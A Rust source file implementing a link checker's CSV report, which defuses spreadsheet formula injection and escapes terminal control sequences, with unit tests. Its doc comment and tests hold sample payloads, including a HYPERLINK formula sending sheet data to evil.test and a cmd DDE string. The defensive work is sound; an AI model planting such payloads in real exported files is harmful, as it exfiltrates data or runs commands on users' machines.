//! CSV in LinkChecker's 17 columns and order, then `from_state` ([`CSV_COLUMNS`]),
//! `;`-separated by default, one row per (URL, referrer), written and flushed within a tenth
//! of a second as entries arrive.
//!
//! Unlike LinkChecker, every row has all its fields (empty line and column stay empty fields
//! instead of shifting the columns), and no `#` comment lines surround the table, so a
//! spreadsheet opens it as-is. With [`CsvReporter::with_bom`] the file starts with a UTF-8
//! byte-order mark, which Excel needs to read non-ASCII text as UTF-8.
//!
//! # Cells from pages and servers
//! The text columns ([`TEXT_COLUMNS`]: the link as written, its name, URLs, results,
//! warnings, infos, `modified`) hold what a page or a server chose. A spreadsheet runs a cell
//! that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
//! formula: `=HYPERLINK("http://evil.test/?"&A1,"x")` sends the sheet's data away when
//! clicked. So, following OWASP's advice on CSV injection, such a text cell gets a leading `'`,
//! which spreadsheets show as text. Control characters in these cells are spelled out as the
//! text report does ([`escape_controls`]), so a CSV shown on a terminal drives no escape
//! sequence; the line breaks that separate several warnings or infos in one cell are ours and
//! stay. The columns we write as numbers or flags (`valid`, `line`, `column`, `dltime`,
//! `size`, `checktime`, `cached`, `level`, `from_state`) are left alone: a `-1` there is ours, not a formula.
//! [`CsvReporter::with_raw`] writes every cell as found instead.

use std::io::{self, Write};

use super::terminal::escape_controls;
use super::{FlushPacer, Reporter, Verbosity};
use crate::model::outcome::Entry;
use crate::model::run_report::Report;

/// The header row: LinkChecker's 17 column names in its order, then ours, so a spreadsheet
/// made for LinkChecker's columns finds each where it was. `cached` keeps LinkChecker's
/// meaning (1: not the URL's first row in this run, its result came from this run's cache);
/// `from_state` (1: the result was reused from the state file, not requested) is ours.
pub const CSV_COLUMNS: [&str; 18] = [
    "urlname",
    "parentname",
    "base",
    "result",
    "warningstring",
    "infostring",
    "valid",
    "url",
    "line",
    "column",
    "name",
    "dltime",
    "size",
    "checktime",
    "cached",
    "level",
    "modified",
    "from_state",
];

/// The byte-order mark (U+FEFF, `EF BB BF` in UTF-8).
const BOM: char = '\u{FEFF}';

/// The columns whose text comes from pages and servers, by index into [`CSV_COLUMNS`]:
/// `urlname`, `parentname`, `base`, `result`, `warningstring`, `infostring`, `url`, `name` and
/// `modified`.
const TEXT_COLUMNS: [usize; 9] = [0, 1, 2, 3, 4, 5, 7, 10, 16];

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Writes CSV rows.
#[derive(Debug)]
pub struct CsvReporter<W: Write> {
    out: csv::Writer<W>,
    verbosity: Verbosity,
    header_written: bool,
    bom: bool,
    /// Cells as found: no `'` before a formula, no escaped control characters.
    raw: bool,
    /// A 19th column, `suggestion` (`--suggest`), after the 18 of [`CSV_COLUMNS`].
    suggestions: bool,
    pacer: FlushPacer,
}

impl<W: Write> CsvReporter<W> {
    /// A reporter writing to `out` with `delimiter` (LinkChecker uses `;`).
    pub fn new(out: W, delimiter: u8, verbosity: Verbosity) -> Self {
        CsvReporter {
            out: csv::WriterBuilder::new()
                .delimiter(delimiter)
                .quote_style(csv::QuoteStyle::Necessary)
                .from_writer(out),
            verbosity,
            header_written: false,
            pacer: FlushPacer::default(),
            bom: false,
            raw: false,
            suggestions: false,
        }
    }

    /// Adds a last column, `suggestion`: the web archive's closest snapshot of a broken URL
    /// (`--suggest`), after `from_state`. Defaults to off.
    pub fn with_suggestions(mut self, on: bool) -> Self {
        self.suggestions = on;
        self
    }

    /// Writes every cell as found when `raw` is true: a text cell that starts with `=`, `+`,
    /// `-`, `@`, a tab or a carriage return gets no leading `'`, and control characters are
    /// not escaped (see the module doc). Defaults to off: cells are made safe for spreadsheets
    /// and terminals.
    pub fn with_raw(mut self, raw: bool) -> Self {
        self.raw = raw;
        self
    }

    /// Writes a UTF-8 byte-order mark before the header when `bom` is true (Excel then reads
    /// the file as UTF-8; LibreOffice accepts either). Defaults to off.
    pub fn with_bom(mut self, bom: bool) -> Self {
        self.bom = bom;
        self
    }

    /// Flushes and returns the underlying writer.
    ///
    /// # Errors
    /// When the final flush fails.
    pub fn into_inner(self) -> io::Result<W> {
        self.out.into_inner().map_err(|e| e.into_error())
    }

    fn header(&mut self) -> io::Result<()> {
        if !self.header_written {
            self.header_written = true;
            if self.bom {
                // `csv::Writer` has no raw write, so the mark goes out as the start of the first
                // field: a BOM needs no quoting under `QuoteStyle::Necessary`, and nothing was
                // written before the header.
                let first = format!("{BOM}{}", CSV_COLUMNS[0]);
                let mut header = CSV_COLUMNS.map(str::to_owned).to_vec();
                header[0] = first;
                if self.suggestions {
                    header.push("suggestion".into());
                }
                self.out.write_record(&header)?;
            } else if self.suggestions {
                let mut header = CSV_COLUMNS.to_vec();
                header.push("suggestion");
                self.out.write_record(header)?;
            } else {
                self.out.write_record(CSV_COLUMNS)?;
            }
        }
        Ok(())
    }
}

/// The 18 fields of one entry as [`CsvReporter`] writes them by default: text cells that would
/// start a formula begin with `'`, and control characters are spelled out (see the module doc).
pub fn csv_fields(e: &Entry) -> [String; 18] {
    fields(e, false)
}

/// `cell` with a leading `'` when a spreadsheet would read it as a formula.
fn defuse_formula(cell: &mut String) {
    if cell.starts_with(FORMULA_STARTS) {
        cell.insert(0, '\'');
    }
}

/// The 18 fields of one entry; as found when `raw`, else made safe (see the module doc).
fn fields(e: &Entry, raw: bool) -> [String; 18] {
    let text = |s: &str| -> String {
        if raw {
            s.to_owned()
        } else {
            escape_controls(s).into_owned()
        }
    };
    let r = &e.result;
    let rf = e.referrer.as_ref();
    let url = match &e.fragment {
        Some(f) => format!("{}#{f}", r.url),
        None => r.url.clone(),
    };
    // Each warning and info is escaped on its own: the line breaks between them are ours.
    let warnings: Vec<String> = e
        .warnings()
        .map(|w| text(&format!("[{}] {}", w.tag, w.message)))
        .collect();
    let mut infos: Vec<String> = r.infos.iter().map(|i| text(i)).collect();
    // A remapped link: the url column keeps the URL as written, the info says where it went.
    let remapped_from = rf.and_then(|x| x.remapped_from.as_deref());
    if remapped_from.is_some() {
        infos.push(text(&format!("remapped to {url}")));
    }
    if rf.is_some_and(|x| x.rendered) {
        infos.push("found after rendering the page (--render-js)".to_owned());
    }
    let result = if r.outcome.is_broken() {
        format!("Error: {}", r.outcome)
    } else {
        r.outcome.to_string()
    };
    let mut cells = [
        text(rf.map_or(&url, |x| &x.raw)),
        text(rf.map_or("", |x| &x.parent)),
        text(rf.and_then(|x| x.base.as_deref()).unwrap_or_default()),
        text(&result),
        warnings.join("\n"),
        infos.join("\n"),
        if r.outcome.is_broken() {
            "False"
        } else {
            "True"
        }
        .to_owned(),
        text(&match remapped_from {
            Some(from) => from.to_owned(),
            // The fragment goes where the link went (a folder to its index page), as a browser
            // carries it across a redirect: the column must not depend on which link to the
            // document was checked first.
            None => r.real_url.as_ref().map_or(url, |u| match &e.fragment {
                Some(f) if u.fragment().is_none() => format!("{u}#{f}"),
                _ => u.to_string(),
            }),
        }),
        rf.and_then(|x| x.line)
            .map(|n| n.to_string())
            .unwrap_or_default(),
        rf.and_then(|x| x.column)
            .map(|n| n.to_string())
            .unwrap_or_default(),
        text(rf.map_or("", |x| &x.name)),
        r.download_time
            .map_or("-1".into(), |d| format!("{:.6}", d.as_secs_f64())),
        r.size.map_or("-1".into(), |s| s.to_string()),
        format!("{:.6}", r.check_time.as_secs_f64()),
        if e.cached { "1" } else { "0" }.to_owned(),
        r.level.to_string(),
        text(r.modified.as_deref().unwrap_or_default()),
        if r.cached_from.is_some() { "1" } else { "0" }.to_owned(),
    ];
    if !raw {
        for i in TEXT_COLUMNS {
            defuse_formula(&mut cells[i]);
        }
    }
    cells
}

impl<W: Write> Reporter for CsvReporter<W> {
    fn entry(&mut self, entry: &Entry) -> io::Result<()> {
        self.header()?;
        if self.verbosity.shows(entry) {
            let cells = fields(entry, self.raw);
            if self.suggestions {
                let mut cells = cells.to_vec();
                let s = entry.result.suggestion.as_deref().unwrap_or_default();
                let mut cell = if self.raw {
                    s.to_owned()
                } else {
                    escape_controls(s).into_owned()
                };
                if !self.raw {
                    defuse_formula(&mut cell);
                }
                cells.push(cell);
                self.out.write_record(cells)?;
            } else {
                self.out.write_record(cells)?;
            }
            // Streamed: rows reach the file within FLUSH_INTERVAL; `finish` (also after a
            // cancel) flushes the rest.
            if self.pacer.due() {
                self.out.flush()?;
            }
        }
        Ok(())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    fn finish(&mut self, _report: &Report) -> io::Result<()> {
        self.header()?;
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::model::outcome::{CheckResult, FailKind, Outcome, Referrer, Warning};

    /// A broken link written `raw` with the name `name`, on a page whose server sent
    /// `modified`, with one info and one warning from the same hostile text.
    fn entry(raw: &str, name: &str, hostile: &str) -> Entry {
        let mut result = CheckResult::immediate(
            format!("http://h.test/{raw}"),
            Outcome::Failed {
                kind: FailKind::Io,
                message: hostile.to_owned(),
            },
            1,
        );
        result.modified = Some(hostile.to_owned());
        result.infos = vec![hostile.to_owned(), "second".to_owned()];
        Entry {
            result: Arc::new(result),
            referrer: Some(Referrer {
                parent: "http://h.test/".to_owned(),
                raw: raw.to_owned(),
                line: Some(3),
                column: Some(1),
                name: name.to_owned(),
                base: Some(hostile.to_owned()),
                warnings: vec![Warning {
                    tag: "url-whitespace",
                    message: hostile.to_owned(),
                }],
                remapped_from: None,
                rendered: false,
            }),
            fragment: None,
            cached: false,
        }
    }

    #[test]
    fn every_formula_start_gets_a_quote() {
        for start in FORMULA_STARTS {
            let text = format!("{start}1+1");
            let mut cell = text.clone();
            defuse_formula(&mut cell);
            assert_eq!(cell, format!("'{text}"));
        }
        for harmless in ["", "1+1", "http://x/=1", "'=1", " =1", "[tag] -1", "é=1"] {
            let mut cell = harmless.to_owned();
            defuse_formula(&mut cell);
            assert_eq!(cell, harmless);
        }
    }

    #[test]
    fn page_and_server_text_cells_are_defused() {
        for hostile in [
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
        ] {
            let e = entry("=1+1", hostile, hostile);
            let f = csv_fields(&e);
            assert_eq!(f[0], "'=1+1", "urlname");
            assert_eq!(f[10], format!("'{hostile}"), "name");
            assert_eq!(f[2], format!("'{hostile}"), "base");
            assert_eq!(f[16], format!("'{hostile}"), "modified");
            assert_eq!(f[5], format!("'{hostile}\nsecond"), "infostring");
            for i in TEXT_COLUMNS {
                assert!(
                    !f[i].starts_with(FORMULA_STARTS),
                    "{}: {}",
                    CSV_COLUMNS[i],
                    f[i]
                );
            }
            let raw = fields(&e, true);
            assert_eq!(raw[0], "=1+1");
            assert_eq!(raw[10], hostile);
            assert_eq!(raw[16], hostile);
        }
    }

    #[test]
    fn our_numbers_are_not_quoted() {
        let f = csv_fields(&entry("x", "n", "m"));
        // No download and no size: LinkChecker's -1, which is ours, not a page's formula.
        assert_eq!((f[11].as_str(), f[12].as_str()), ("-1", "-1"));
        assert_eq!((f[8].as_str(), f[9].as_str()), ("3", "1"));
        assert_eq!(f[6], "False");
    }

    #[test]
    fn control_characters_are_spelled_out_but_our_line_breaks_stay() {
        let hostile = "\x1b]0;TITLE\x07\x1b[31mRED\nThat's it.";
        let e = entry("x\ny", hostile, hostile);
        let f = csv_fields(&e);
        assert_eq!(f[0], r"x\ny");
        assert_eq!(f[10], r"\e]0;TITLE\u{7}\e[31mRED\nThat's it.");
        assert_eq!(f[5], format!("{}\nsecond", f[10]), "one line break: ours");
        assert!(f.iter().all(|c| !c.contains(['\x1b', '\x07'])), "{f:?}");
        let raw = fields(&e, true);
        assert_eq!(raw[10], hostile);
    }

    fn header_bytes(bom: bool) -> Vec<u8> {
        let mut r = CsvReporter::new(Vec::new(), b';', Verbosity::All).with_bom(bom);
        r.finish(&Report::default()).unwrap();
        r.into_inner().unwrap()
    }

    #[test]
    fn the_url_column_keeps_the_fragment_across_a_real_url() {
        let url_column = |real: Option<&str>| {
            let mut e = entry("sub/", "n", "m");
            let mut result = (*e.result).clone();
            result.real_url = real.map(|u| url::Url::parse(u).unwrap());
            e.result = Arc::new(result);
            e.fragment = Some("part".to_owned());
            csv_fields(&e)[7].clone()
        };
        assert_eq!(url_column(None), "http://h.test/sub/#part");
        assert_eq!(
            url_column(Some("http://h.test/sub/index.html")),
            "http://h.test/sub/index.html#part"
        );
        assert_eq!(
            url_column(Some("http://h.test/sub/index.html#own")),
            "http://h.test/sub/index.html#own"
        );
    }

    #[test]
    fn bom_only_when_asked() {
        let plain = header_bytes(false);
        assert!(plain.starts_with(b"urlname;parentname;"));
        let with = header_bytes(true);
        assert_eq!(&with[..3], b"\xEF\xBB\xBF");
        assert_eq!(&with[3..], &plain[..]);
    }
}
